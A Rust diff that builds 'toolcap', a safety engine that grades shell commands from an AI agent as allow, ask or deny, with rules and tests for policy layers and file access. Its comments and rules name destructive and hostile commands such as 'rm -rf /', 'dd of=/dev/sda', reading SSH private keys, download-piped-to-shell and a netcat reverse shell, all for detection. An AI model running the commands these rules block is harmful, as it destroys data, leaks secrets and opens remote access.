@@ -1,14 +1,88 @@
 //! The toolcap command safety engine.
 //!
 //! [`Engine::check`] takes a command line as an agent would pass it to `bash -c` and returns a
-//! [`Verdict`]: allow, ask or deny, with the reasons.
+//! [`Verdict`]: allow, ask or deny, with the reasons. How it works:
+//!
+//! 1. `toolcap-shell` parses the line into every [`SimpleCommand`] it can run, wrappers
+//!    unwrapped, with the pipes and substitutions between them.
+//! 2. Each simple command gets its base decision from its catalog entry (`toolcap-catalog`):
+//!    SAFE/LOW allow, MEDIUM/HIGH ask, CRITICAL deny; unknown commands and run-time names ask.
+//! 3. Argument and target rules raise (or, for project-local paths, lower) that decision:
+//!    `rm -rf /`, `git push --force`, `dd of=/dev/sda`, reading `~/.ssh/id_rsa`, writing
+//!    `~/.bashrc`, shell escapes from ordinary programs, reverse shells, `LD_PRELOAD`. Line-level
+//!    rules look at the data flow: a download piped or substituted into a shell is denied.
+//! 4. User [`Policy`] rules (system, user, project layers) may raise a part, or relax an ask to
+//!    allow; relaxing a built-in deny needs `danger_override_builtin_deny = true` on the rule.
+//! 5. The line's decision is the strictest part's; the [`Verdict`] names the part, the rule ids,
+//!    the capabilities, a one-line reason and a safer alternative where one exists.
+//!
+//! Rule ids and the policy file format are documented in `docs/policy.md`.
+//!
+//! ```
+//! use toolcap_policy::{Decision, Engine};
+//!
+//! let engine = Engine::builtin();
+//! assert_eq!(engine.check("git status").decision, Decision::Allow);
+//! let v = engine.check("cd /tmp && timeout 5 rm -rf /");
+//! assert_eq!(v.decision, Decision::Deny);
+//! assert!(v.commands[1].rules.contains(&"rm.recursive-root".to_owned()));
+//! ```
 #![cfg_attr(not(test), warn(missing_docs))]
 
+mod judge;
+mod paths;
+mod user;
 mod verdict;
 
+pub use user::{Layer, Policy, Rule, ToolRule};
 pub use verdict::{CommandVerdict, Decision, Verdict};
 
+use std::path::Path;
+
 use toolcap_descriptor::{Capabilities, Risk};
+use toolcap_shell::{Analysis, Limits, Name, ShellError, SimpleCommand, Source};
+
+use crate::judge::{Finding, Judged};
+
+/// Errors of loading a user policy.
+#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
+#[non_exhaustive]
+pub enum PolicyError {
+    /// The file is not valid TOML or has unknown fields.
+    #[error("{layer} policy: {message}")]
+    Toml {
+        /// The layer's name.
+        layer: &'static str,
+        /// The parser's message.
+        message: String,
+    },
+    /// A rule is malformed.
+    #[error("policy rule {rule:?}: {message}")]
+    Invalid {
+        /// The rule id.
+        rule: String,
+        /// What is wrong.
+        message: String,
+    },
+    /// A rule's `match` or `not_match` example does not behave as stated.
+    #[error("policy rule {rule:?}, example {example:?}: {message}")]
+    Example {
+        /// The rule id.
+        rule: String,
+        /// The example command line.
+        example: String,
+        /// What went wrong.
+        message: String,
+    },
+    /// A policy file could not be read.
+    #[error("cannot read policy file {path}: {message}")]
+    Read {
+        /// The path.
+        path: String,
+        /// The reader's message.
+        message: String,
+    },
+}
 
 /// Whether a file is about to be read or written (for tools such as Read, Write, Edit).
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
@@ -24,7 +98,8 @@ pub enum Access {
 /// Cheap to share across threads (`Send + Sync`); build it once and call it for every command.
 #[derive(Debug, Default)]
 pub struct Engine {
-    _private: (),
+    policy: Policy,
+    limits: Limits,
 }
 
 impl Engine {
@@ -33,16 +108,461 @@ impl Engine {
         Engine::default()
     }
 
+    /// The engine with a user policy on top of the built-in rules.
+    pub fn with_policy(policy: Policy) -> Result<Engine, PolicyError> {
+        Ok(Engine {
+            policy,
+            limits: Limits::default(),
+        })
+    }
+
+    /// The same engine with other analysis limits.
+    #[must_use]
+    pub fn with_limits(mut self, limits: Limits) -> Engine {
+        self.limits = limits;
+        self
+    }
+
+    /// The user policy in force.
+    pub fn policy(&self) -> &Policy {
+        &self.policy
+    }
+
     /// Judges a whole command line.
     pub fn check(&self, command_line: &str) -> Verdict {
-        let _ = command_line;
-        Verdict {
-            decision: Decision::Ask,
-            risk: Risk::Medium,
-            capabilities: Capabilities::NONE,
-            reason: "the command engine is not built yet".to_owned(),
-            alternative: None,
-            commands: Vec::new(),
+        match toolcap_shell::analyze_with(command_line, &self.limits) {
+            Ok(a) => self.decide(&a),
+            Err(e) => error_verdict(&e),
         }
+    }
+
+    /// Judges a command line given as bytes; invalid UTF-8 is denied.
+    pub fn check_bytes(&self, bytes: &[u8]) -> Verdict {
+        match std::str::from_utf8(bytes) {
+            Ok(s) => self.check(s),
+            Err(_) => error_verdict(&ShellError::InvalidUtf8),
+        }
+    }
+
+    /// The decision for one already-parsed simple command, judged on its own (no line-level
+    /// rules, no explanation): the cheap path.
+    pub fn decide_command(&self, command: &SimpleCommand) -> Decision {
+        let j = judge::judge(command);
+        self.apply_policy(command, j.decision()).0
+    }
+
+    /// Judges an analysed command line.
+    pub fn decide(&self, analysis: &Analysis) -> Verdict {
+        let mut parts: Vec<Judged> = analysis.commands.iter().map(judge::judge).collect();
+        line_rules(analysis, &mut parts);
+        let mut commands = Vec::with_capacity(parts.len());
+        let mut worst: Option<(usize, Decision)> = None;
+        let mut line_risk = Risk::Safe;
+        let mut line_caps = Capabilities::NONE;
+        let mut reasons: Vec<(String, Option<String>)> = Vec::with_capacity(parts.len());
+        for (i, (c, j)) in analysis.commands.iter().zip(&parts).enumerate() {
+            let (decision, user_rule) = self.apply_policy(c, j.decision());
+            let mut rules: Vec<String> = Vec::new();
+            if j.findings.is_empty() || j.base_rule != "catalog" {
+                rules.push(j.base_rule.to_owned());
+            }
+            rules.extend(j.findings.iter().map(|f| f.rule.to_owned()));
+            let mut reason = match j.worst() {
+                Some(f) => format!("{}: {}", f.rule, f.reason),
+                None if j.base_rule == "catalog.unknown" => format!(
+                    "{} is not in the catalog: unknown commands need a look",
+                    display_name(c)
+                ),
+                None => format!("{}: {} ({})", j.base_rule, j.summary, j.base_risk.name()),
+            };
+            let mut alternative = j
+                .worst()
+                .and_then(|f: &Finding| f.alternative)
+                .or(if decision > Decision::Allow {
+                    j.alternative
+                } else {
+                    None
+                })
+                .map(str::to_owned);
+            if let Some(r) = user_rule {
+                rules.push(r.id.clone());
+                reason = format!("{}: {}", r.id, r.reason);
+                if decision == Decision::Allow {
+                    alternative = None;
+                }
+            }
+            let risk = j.risk();
+            let caps = j.capabilities();
+            line_risk = line_risk.max(risk);
+            line_caps |= caps;
+            if worst.is_none_or(|(_, d)| decision > d) {
+                worst = Some((i, decision));
+            }
+            reasons.push((reason, alternative));
+            commands.push(CommandVerdict {
+                argv: c.argv.iter().map(|w| w.text.clone()).collect(),
+                decision,
+                risk,
+                capabilities: caps,
+                rules,
+            });
+        }
+        let Some((i, decision)) = worst else {
+            return Verdict {
+                decision: Decision::Allow,
+                risk: Risk::Safe,
+                capabilities: Capabilities::NONE,
+                reason: "nothing to run".to_owned(),
+                alternative: None,
+                commands,
+            };
+        };
+        let (reason, alternative) = reasons.swap_remove(i);
+        let part = commands
+            .get(i)
+            .map(|c| shorten(&c.argv.join(" ")))
+            .unwrap_or_default();
+        let reason = if commands.len() > 1 {
+            format!("part {} `{}`: {}", i + 1, part, reason)
+        } else {
+            format!("`{part}`: {reason}")
+        };
+        Verdict {
+            decision,
+            risk: line_risk,
+            capabilities: line_caps,
+            reason,
+            alternative,
+            commands,
+        }
+    }
+
+    /// Applies the user policy to one part: the first matching rule of the most specific layer.
+    fn apply_policy(&self, c: &SimpleCommand, builtin: Decision) -> (Decision, Option<&Rule>) {
+        if self.policy.rules.is_empty() {
+            return (builtin, None);
+        }
+        let Some(rule) = self.policy.rules.iter().find(|r| r.matches(c)) else {
+            return (builtin, None);
+        };
+        let decision = if builtin == Decision::Deny && !rule.danger_override_builtin_deny {
+            Decision::Deny
+        } else {
+            rule.decision
+        };
+        (decision, Some(rule))
+    }
+
+    /// Judges a file access by a tool (Read, Write, Edit): secrets, start-up and access files,
+    /// system configuration. `cwd` is the project directory relative paths are taken from.
+    pub fn check_path(&self, path: &str, access: Access, cwd: Option<&Path>) -> Verdict {
+        let mut p = path.to_owned();
+        let home = std::env::var_os("HOME").map(|h| h.to_string_lossy().into_owned());
+        // Inside the project the path is relative; an absolute path under cwd is made relative.
+        if let Some(cwd) = cwd.and_then(|c| c.to_str())
+            && let Some(rest) = p.strip_prefix(cwd).and_then(|r| r.strip_prefix('/'))
+        {
+            p = rest.to_owned();
+        }
+        if let Some(h) = home.as_deref().filter(|h| !h.is_empty())
+            && let Some(rest) = p.strip_prefix(h)
+            && (rest.is_empty() || rest.starts_with('/'))
+        {
+            p = format!("~{rest}");
+        }
+        let (decision, rule, reason, caps) = match access {
+            Access::Read => match paths::read_class(&p) {
+                paths::ReadClass::Secret => (
+                    Decision::Deny,
+                    "read.sensitive",
+                    "reads a secret (private key, credentials, password database)",
+                    Capabilities::READS_SENSITIVE,
+                ),
+                paths::ReadClass::ProjectEnv => (
+                    Decision::Ask,
+                    "read.env-file",
+                    "reads the project's .env secrets",
+                    Capabilities::READS_SENSITIVE,
+                ),
+                paths::ReadClass::Plain => (
+                    Decision::Allow,
+                    "path.read",
+                    "reads an ordinary file",
+                    Capabilities::FILE_READ,
+                ),
+            },
+            Access::Write => match paths::write_class(&p) {
+                paths::WriteClass::Device => (
+                    Decision::Deny,
+                    "write.device",
+                    "writes a disk device",
+                    Capabilities::DESTRUCTIVE,
+                ),
+                paths::WriteClass::Sensitive => (
+                    Decision::Deny,
+                    "write.sensitive",
+                    "writes a file that grants access or persists (ssh keys, rc files, sudoers, cron, units)",
+                    Capabilities::WRITES_SENSITIVE | Capabilities::PERSISTENCE,
+                ),
+                paths::WriteClass::System => (
+                    Decision::Ask,
+                    "write.system",
+                    "writes system files",
+                    Capabilities::SYSTEM_MODIFICATION,
+                ),
+                paths::WriteClass::Plain
+                    if paths::outside_project(&p) && !p.starts_with("/tmp/") =>
+                {
+                    (
+                        Decision::Ask,
+                        "write.outside-project",
+                        "writes outside the project",
+                        Capabilities::FILE_MODIFICATION,
+                    )
+                }
+                paths::WriteClass::Plain => (
+                    Decision::Allow,
+                    "path.write",
+                    "writes a project file",
+                    Capabilities::FILE_MODIFICATION,
+                ),
+            },
+        };
+        let risk = match decision {
+            Decision::Allow => Risk::Low,
+            Decision::Ask => Risk::High,
+            Decision::Deny => Risk::Critical,
+        };
+        Verdict {
+            decision,
+            risk,
+            capabilities: caps,
+            reason: format!("`{path}`: {rule}: {reason}"),
+            alternative: None,
+            commands: vec![CommandVerdict {
+                argv: vec![path.to_owned()],
+                decision,
+                risk,
+                capabilities: caps,
+                rules: vec![rule.to_owned()],
+            }],
+        }
+    }
+
+    /// Judges a tool by name with the user policy's tool rules; `None` when no rule applies.
+    pub fn check_tool(&self, tool_name: &str) -> Option<Verdict> {
+        let rule = self
+            .policy
+            .tools
+            .iter()
+            .find(|r| user::glob(&r.tool, tool_name))?;
+        let risk = match rule.decision {
+            Decision::Allow => Risk::Low,
+            Decision::Ask => Risk::Medium,
+            Decision::Deny => Risk::High,
+        };
+        Some(Verdict {
+            decision: rule.decision,
+            risk,
+            capabilities: Capabilities::NONE,
+            reason: format!("`{tool_name}`: {}: {}", rule.id, rule.reason),
+            alternative: None,
+            commands: vec![CommandVerdict {
+                argv: vec![tool_name.to_owned()],
+                decision: rule.decision,
+                risk,
+                capabilities: Capabilities::NONE,
+                rules: vec![rule.id.clone()],
+            }],
+        })
+    }
+}
+
+fn display_name(c: &SimpleCommand) -> String {
+    match &c.name {
+        Name::Static(n) => format!("`{n}`"),
+        Name::Dynamic(n) => format!("`{}`", shorten(n)),
+    }
+}
+
+fn shorten(s: &str) -> String {
+    if s.chars().count() <= 80 {
+        return s.to_owned();
+    }
+    let mut out: String = s.chars().take(77).collect();
+    out.push_str("...");
+    out
+}
+
+/// A line that could not be analysed: limits exceeded or invalid bytes are denied (adversarial),
+/// syntax errors ask.
+fn error_verdict(e: &ShellError) -> Verdict {
+    let (decision, rule) = match e {
+        ShellError::Syntax(_) => (Decision::Ask, "parse.syntax"),
+        ShellError::InvalidUtf8 => (Decision::Deny, "parse.invalid-utf8"),
+        _ => (Decision::Deny, "parse.limits"),
+    };
+    let risk = if decision == Decision::Deny {
+        Risk::Critical
+    } else {
+        Risk::High
+    };
+    Verdict {
+        decision,
+        risk,
+        capabilities: Capabilities::NONE,
+        reason: format!("{rule}: {e}"),
+        alternative: None,
+        commands: Vec::new(),
+    }
+}
+
+/// Rules over the data flow of the whole line.
+fn line_rules(a: &Analysis, parts: &mut [Judged]) {
+    let n = a.commands.len();
+    if n == 0 {
+        return;
+    }
+    let name = |i: usize| {
+        a.commands
+            .get(i)
+            .and_then(|c| c.static_name())
+            .unwrap_or("")
+    };
+    // Remote data: downloaders and network clients, and anything their output flows through.
+    let mut tainted: Vec<bool> = (0..n)
+        .map(|i| judge::is_downloader(name(i)) || judge::is_netcat(name(i)))
+        .collect();
+    for _ in 0..4 {
+        for &(x, y) in &a.pipes {
+            if tainted.get(x).copied().unwrap_or(false)
+                && let Some(t) = tainted.get_mut(y)
+            {
+                *t = true;
+            }
+        }
+    }
+    let deny = |parts: &mut [Judged],
+                i: usize,
+                rule: &'static str,
+                reason: &'static str,
+                caps: Capabilities| {
+        if let Some(j) = parts.get_mut(i) {
+            j.findings.push(Finding {
+                rule,
+                decision: Decision::Deny,
+                risk: Risk::Critical,
+                caps,
+                reason,
+                alternative: Some("download to a file, read it, then run it"),
+            });
+        }
+    };
+    let run_caps = Capabilities::EXECUTES_CODE | Capabilities::NETWORK_DOWNLOAD;
+    for &(x, y) in &a.pipes {
+        let (Some(cx), Some(cy)) = (a.commands.get(x), a.commands.get(y)) else {
+            continue;
+        };
+        let ny = name(y);
+        if tainted.get(x).copied().unwrap_or(false)
+            && (judge::reads_program(cy, ny) || matches!(cy.name, Name::Dynamic(_)))
+        {
+            deny(
+                parts,
+                y,
+                "download.pipe-shell",
+                "remote data is piped into a shell or interpreter",
+                run_caps,
+            );
+        }
+        // `sh -i 2>&1 | nc host 4444`: a shell's output goes to the network.
+        if (judge::is_shell(name(x)) || judge::is_interpreter(name(x)))
+            && judge::interactive(cx, name(x))
+            && judge::is_netcat(ny)
+        {
+            deny(
+                parts,
+                x,
+                "net.reverse-shell",
+                "a shell's input or output is connected to the network",
+                Capabilities::SPAWNS_SHELL | Capabilities::NETWORK_ACCESS,
+            );
+        }
+        if judge::is_netcat(ny)
+            && !matches!(name(x), "echo" | "printf")
+            && matches!(cy.stdin, Source::Pipe(_))
+            && !judge::is_netcat(name(x))
+            && !judge::is_shell(name(x))
+            && let Some(j) = parts.get_mut(y)
+        {
+            j.findings.push(Finding {
+                rule: "net.upload-pipe",
+                decision: Decision::Ask,
+                risk: Risk::High,
+                caps: Capabilities::NETWORK_UPLOAD,
+                reason: "sends local data to a remote host",
+                alternative: None,
+            });
+        }
+    }
+    for &(x, y) in &a.feeds {
+        let Some(cy) = a.commands.get(y) else {
+            continue;
+        };
+        if tainted.get(x).copied().unwrap_or(false)
+            && (judge::reads_program(cy, name(y))
+                || matches!(cy.name, Name::Dynamic(_))
+                || matches!(name(y), "eval" | "source" | "."))
+        {
+            deny(
+                parts,
+                y,
+                "download.exec",
+                "downloaded content is run as code",
+                run_caps,
+            );
+        }
+    }
+    // mkfifo plus a network client plus a shell: the classic named-pipe reverse shell.
+    let has = |f: &dyn Fn(&str) -> bool| (0..n).any(|i| f(name(i)));
+    if has(&|s| s == "mkfifo" || s == "mknod") && has(&judge::is_netcat) && has(&judge::is_shell) {
+        for i in 0..n {
+            if judge::is_shell(name(i)) {
+                deny(
+                    parts,
+                    i,
+                    "net.reverse-shell",
+                    "a named pipe connects a shell to the network",
+                    Capabilities::SPAWNS_SHELL | Capabilities::NETWORK_ACCESS,
+                );
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn engine_is_send_and_sync() {
+        fn assert<T: Send + Sync>() {}
+        assert::<Engine>();
+    }
+
+    #[test]
+    fn empty_line_allows() {
+        assert_eq!(Engine::builtin().check("").decision, Decision::Allow);
+        assert_eq!(
+            Engine::builtin().check("   # comment").decision,
+            Decision::Allow
+        );
+    }
+
+    #[test]
+    fn invalid_utf8_is_denied() {
+        let v = Engine::builtin().check_bytes(b"rm \xff");
+        assert_eq!(v.decision, Decision::Deny);
+        assert!(v.reason.contains("utf-8"));
     }
 }
